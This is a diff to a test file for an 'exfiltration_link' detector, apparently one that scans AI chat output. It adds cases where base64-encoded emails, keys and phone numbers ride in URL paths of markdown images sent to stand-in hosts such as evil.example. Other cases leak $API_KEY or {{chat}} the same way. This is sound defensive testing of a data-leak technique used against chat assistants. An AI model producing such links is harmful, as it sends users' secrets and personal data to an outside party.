@@ -522,6 +522,9 @@ describe('exfiltration_link', () => {
       '[click](https://evil.example/?secret=$API_KEY)',
       '[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
       '<img src="https://evil.example/t.gif?d={{chat}}">',
+      // data in the path, base64 (standard or URL alphabet) of a record or of prose
+      `![a](https://collector.example/c/${Buffer.from('user=alice@example.com&key=sk-123').toString('base64url')}.png)`,
+      `<img src="https://evil.example/${Buffer.from('email: bob@example.com, phone 0912345678').toString('base64')}/p.gif">`,
     ];
     for (const text of texts) assert.ok(found(text, 'exfiltration_link').length > 0, text);
   });
@@ -532,6 +535,9 @@ describe('exfiltration_link', () => {
       'Track: https://example.com/news?utm_source=newsletter&utm_medium=email&utm_campaign=spring',
       'API: GET https://api.example.com/users/{id}',
       '![chart](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)',
+      // opaque ids and hashes in CDN paths
+      '![photo](https://res.cdn.example/image/upload/v1712345678/AbCdEf123GhIjKl456MnOpQr789.jpg)',
+      '![x](https://cdn.example/assets/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.png)',
     ];
     for (const text of texts) assert.deepEqual(found(text, 'exfiltration_link'), [], text);
   });
